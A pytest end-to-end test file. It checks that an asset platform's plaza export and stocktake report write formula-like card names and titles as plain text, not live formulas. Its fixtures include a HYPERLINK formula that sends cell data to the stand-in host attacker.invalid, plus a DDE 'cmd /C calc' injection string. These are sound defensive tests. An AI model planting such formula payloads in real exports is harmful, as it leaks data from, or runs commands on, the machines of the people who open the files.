"""A card name that looks like a formula, from one unit, stays text in another unit's
export (issue 14, point 4): the plaza's XLSX and CSV, and the stocktake report."""

from __future__ import annotations

import csv
import io

import psycopg
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.e2e.platform.test_listings import _listed
from tests.fix_api import AuthHeaders
from tests.fix_platform import CardMaker, Flow

LINK = '=HYPERLINK("http://attacker.invalid/?d="&A1,"点击查看详情")'


def test_plaza_export_when_card_name_is_a_formula_then_text_in_xlsx_and_csv(
    flow: Flow, make_card: CardMaker
) -> None:
    listing = _listed(flow, make_card, name=LINK)
    params = {"ids": [listing], "format": "xlsx"}
    r = flow.api.get("/api/v1/listings/export", params=params, headers=flow.auth("hs_jb"))
    assert r.status_code == 200
    name = load_workbook(io.BytesIO(r.content)).active.cell(row=2, column=1)
    assert name.data_type == "s"  # not "f": Excel shows it, never evaluates it
    assert str(name.value).startswith(LINK)
    params["format"] = "csv"
    c = flow.api.get("/api/v1/listings/export", params=params, headers=flow.auth("hs_jb"))
    table = list(csv.reader(io.StringIO(c.content.decode("utf-8-sig"))))
    assert table[1][0].startswith("'" + LINK)


def test_stocktake_report_when_card_name_is_a_formula_then_text_in_xlsx(
    api: TestClient, auth: AuthHeaders, db_url: str, demo_units: dict[str, int]
) -> None:
    with psycopg.connect(db_url) as conn:
        conn.execute(
            "insert into asset_cards (asset_code, name, category_code, unit_id, status)"
            " values ('FX-0001', %s, 'A02010105', %s, 'in_use')",
            ("@SUM(1+1)*cmd|' /C calc'!A0", demo_units["U460001"]),
        )
    created = api.post(
        "/api/v1/stocktakes",
        json={"title": "=1+1", "deadline": "2030-06-30"},
        headers=auth("hd_jb"),
    )
    assert created.status_code == 201, created.text
    task = created.json()["stocktake"]["id"]
    r = api.get(f"/api/v1/stocktakes/{task}/report?format=xlsx", headers=auth("hd_jb"))
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    title = wb["汇总"].cell(row=1, column=2)
    assert (title.value, title.data_type) == ("=1+1", "s")
    missing = wb["未盘"].cell(row=2, column=2)  # the task is open: not scanned yet
    assert missing.value == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert missing.data_type == "s"
